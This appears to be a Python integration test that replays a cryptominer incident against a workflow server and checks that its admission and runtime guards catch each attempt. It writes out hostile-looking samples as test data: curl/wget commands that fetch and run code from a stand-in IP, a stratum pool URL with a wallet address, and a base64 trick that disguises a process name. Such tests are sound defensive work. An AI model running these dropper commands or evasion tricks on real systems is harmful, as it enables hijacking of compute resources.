#!/usr/bin/env python3
"""Attack replay: the seed's incident, step by step, against a real `rampart server`.

    attack_replay_test.py /path/to/rampart

An unauthenticated stranger and an under-privileged user try to run a Monero miner the ways
attackers did (a miner image, a renamed miner pointed at a stratum pool, a download-and-run
script, a privileged pod), and each attempt is refused naming the rule. Then miners that slip
through admission are caught at run time: a busy loop whose executable is named like a miner,
and a step that outlives its time budget, are terminated within 30 s, with an alert in the
API, the audit log and /metrics.
"""

import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
import unittest

import requests
import urllib3

urllib3.disable_warnings()

RAMPART = None
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
POLICY = """
watch:
  stepBudgetSeconds: 4
  action: terminate
"""


class Env:
    pass


E = Env()


def call(method, path, token=None, **kw):
    headers = kw.pop("headers", {})
    if token:
        headers["Authorization"] = "Bearer " + token
    s = requests.Session()
    s.trust_env = False
    return s.request(method, E.url + path, headers=headers, verify=False, timeout=30, **kw)


def token(subject, role, ns="team-a"):
    out = subprocess.run([RAMPART, "token", "create", "--state", E.state, "--subject", subject, "--role", role,
                          "-n", ns, "-o", "json"], capture_output=True, text=True, check=True)
    return json.loads(out.stdout)["token"]


def container_wf(name, container, extra=None):
    t = {"name": "main", "container": container}
    t.update(extra or {})
    return {"metadata": {"name": name}, "spec": {"entrypoint": "main", "templates": [t]}}


def wait_phase(tok, ns, name, timeout):
    deadline = time.time() + timeout
    while time.time() < deadline:
        r = call("GET", f"/api/v1/workflows/{ns}/{name}", tok)
        phase = r.json().get("status", {}).get("phase")
        if phase in ("Succeeded", "Failed", "Error"):
            return r.json()
        time.sleep(0.25)
    return None


class AttackReplay(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        E.state = tempfile.mkdtemp(prefix="rampart-attack-")
        policy = E.state.rstrip("/") + "-policy.yaml"
        with open(policy, "w") as f:
            f.write(POLICY)
        E.policy = policy
        E.proc = subprocess.Popen([RAMPART, "server", "--state", E.state, "--listen", "127.0.0.1:0", "--policy", policy],
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        E.admin = E.proc.stdout.readline().strip()
        for _ in range(300):
            if os.path.exists(os.path.join(E.state, "server.json")):
                break
            time.sleep(0.05)
        E.url = json.load(open(os.path.join(E.state, "server.json")))["url"]
        E.viewer = token("vic", "viewer")
        E.submitter = token("sue", "submitter")
        E.author = token("amy", "author")
        # An approved template that takes its image and arguments from parameters: admission
        # passes it, so what the submitter puts in the parameters must be caught.
        tmpl = {"metadata": {"name": "runner"},
                "spec": {"entrypoint": "main",
                         "arguments": {"parameters": [{"name": "image", "value": "busybox"},
                                                      {"name": "args", "value": "hello"}]},
                         "templates": [{"name": "main", "container": {
                             "image": "{{workflow.parameters.image}}",
                             "command": ["echo"], "args": ["{{workflow.parameters.args}}"]}}]}}
        r = call("POST", "/api/v1/workflow-templates/team-a", E.author, json={"template": tmpl})
        assert r.status_code == 200, r.text

    @classmethod
    def tearDownClass(cls):
        E.proc.terminate()
        try:
            E.proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            E.proc.kill()
        shutil.rmtree(E.state, ignore_errors=True)
        os.remove(E.policy)

    def test_1_stranger_cannot_submit(self):
        wf = container_wf("x", {"image": "xmrig/xmrig"})
        self.assertEqual(call("POST", "/api/v1/workflows/team-a", json={"workflow": wf}).status_code, 401)
        self.assertEqual(call("GET", "/api/v1/info").status_code, 401)

    def test_2_viewer_cannot_submit(self):
        wf = container_wf("x", {"image": "busybox", "command": ["true"]})
        self.assertEqual(call("POST", "/api/v1/workflows/team-a", E.viewer, json={"workflow": wf}).status_code, 403)

    def assertDenied(self, r, rule):
        self.assertEqual(r.status_code, 403, r.text)
        self.assertIn(rule, r.json()["message"])

    def test_3_submitter_miner_image_is_denied(self):
        r = call("POST", "/api/v1/workflows/team-a/submit", E.submitter,
                 json={"resourceKind": "WorkflowTemplate", "resourceName": "runner",
                       "submitOptions": {"parameters": ["image=metal3d/xmrig:latest"]}})
        self.assertDenied(r, "image.miner")
        r = call("POST", "/api/v1/workflows/team-a", E.submitter,
                 json={"workflow": container_wf("direct", {"image": "xmrig/xmrig"})})
        self.assertEqual(r.status_code, 403)  # a submitter cannot send a workflow at all

    def test_4_renamed_miner_with_stratum_url_is_denied(self):
        r = call("POST", "/api/v1/workflows/team-a/submit", E.submitter,
                 json={"resourceKind": "WorkflowTemplate", "resourceName": "runner",
                       "submitOptions": {"parameters": ["args=--url=stratum+tcp://pool.example:3333 --user=" + WALLET]}})
        self.assertDenied(r, "command.stratum")
        wf = container_wf("renamed", {"image": "alpine", "command": ["/usr/local/bin/kworker"],
                                      "args": ["-o", "stratum+ssl://10.1.2.3:443", "-u", WALLET, "--donate-level=1"]})
        self.assertDenied(call("POST", "/api/v1/workflows/team-a", E.author, json={"workflow": wf}), "command.stratum")

    def test_5_download_and_run_script_is_denied(self):
        wf = {"metadata": {"name": "dropper"}, "spec": {"entrypoint": "main", "templates": [
            {"name": "main", "script": {"image": "alpine", "command": ["sh"],
                                        "source": "wget -q http://203.0.113.9/k -O /tmp/k; chmod +x /tmp/k; /tmp/k\n"}}]}}
        self.assertDenied(call("POST", "/api/v1/workflows/team-a", E.author, json={"workflow": wf}), "command.dropper")
        wf["spec"]["templates"][0]["script"]["source"] = "curl -fsSL http://203.0.113.9/i.sh | sh\n"
        self.assertDenied(call("POST", "/api/v1/workflows/team-a", E.author, json={"workflow": wf}), "command.dropper")

    def test_6_privileged_pod_is_denied(self):
        wf = container_wf("priv", {"image": "alpine", "command": ["true"], "securityContext": {"privileged": True}})
        self.assertDenied(call("POST", "/api/v1/workflows/team-a", E.author, json={"workflow": wf}), "pod.privileged")
        tmpl = {"metadata": {"name": "priv-tmpl"}, "spec": wf["spec"]}
        self.assertDenied(call("POST", "/api/v1/workflow-templates/team-a", E.author, json={"template": tmpl}),
                          "pod.privileged")

    def test_7_denials_are_audited(self):
        out = subprocess.run([RAMPART, "audit", "--state", E.state, "-o", "json", "--limit", "100000"],
                             capture_output=True, text=True, check=True)
        denied = [a for a in json.loads(out.stdout) if a["decision"] == "denied" and a["status"] == 403]
        self.assertTrue(any(a["subject"] == "sue" for a in denied))
        self.assertTrue(any(a["subject"] == "amy" for a in denied))

    def test_8_miner_named_busy_loop_is_terminated_at_run_time(self):
        # Passes admission: the miner's name only appears once the script runs.
        script = ("n=$(echo eG1yaWcK | base64 -d); cp /bin/sh /tmp/$n; "
                  "exec /tmp/$n -c 'while :; do :; done'\n")
        wf = {"metadata": {"name": "sneaky-miner"}, "spec": {"entrypoint": "main", "templates": [
            {"name": "main", "script": {"image": "alpine", "command": ["sh"], "source": script}}]}}
        start = time.time()
        r = call("POST", "/api/v1/workflows/team-a", E.author, json={"workflow": wf})
        self.assertEqual(r.status_code, 200, r.text)
        done = wait_phase(E.viewer, "team-a", "sneaky-miner", 45)
        self.assertIsNotNone(done, "the miner was not stopped")
        self.assertLess(time.time() - start, 30 + 5)
        self.assertEqual(done["status"]["phase"], "Failed")
        self.assertAlert("sneaky-miner", "runtime.miner-process")

    def test_9_step_beyond_its_time_budget_is_terminated(self):
        wf = container_wf("overtime", {"image": "busybox", "command": ["sleep", "120"]})
        start = time.time()
        self.assertEqual(call("POST", "/api/v1/workflows/team-a", E.author, json={"workflow": wf}).status_code, 200)
        done = wait_phase(E.viewer, "team-a", "overtime", 45)
        self.assertIsNotNone(done)
        self.assertLess(time.time() - start, 4 + 30)
        self.assertEqual(done["status"]["phase"], "Failed")
        self.assertAlert("overtime", "runtime.time-budget")

    def assertAlert(self, workflow, rule):
        alerts = call("GET", "/api/v1/alerts", E.viewer).json()["items"]
        self.assertTrue(any(a["workflow"] == workflow and a["rule"] == rule for a in alerts), alerts)
        metrics = call("GET", "/metrics", E.viewer).text
        self.assertRegex(metrics, r'rampart_guard_alerts_total\{rule="%s",severity="[a-z]+"\} [1-9]' % rule)
        self.assertEqual(call("GET", "/metrics").status_code, 401)
        out = subprocess.run([RAMPART, "audit", "--state", E.state, "-o", "json", "--limit", "100000"],
                             capture_output=True, text=True, check=True)
        self.assertTrue(any(a["subject"] == "guard" and a["route"] == rule and a["object"] == "team-a/" + workflow
                            for a in json.loads(out.stdout)))
        cli = subprocess.run([RAMPART, "alerts", "--state", E.state, "-n", "team-a", "-o", "json"],
                             capture_output=True, text=True, check=True)
        self.assertTrue(any(a["rule"] == rule for a in json.loads(cli.stdout)))


if __name__ == "__main__":
    RAMPART = os.path.abspath(sys.argv.pop(1))
    unittest.main(verbosity=2)
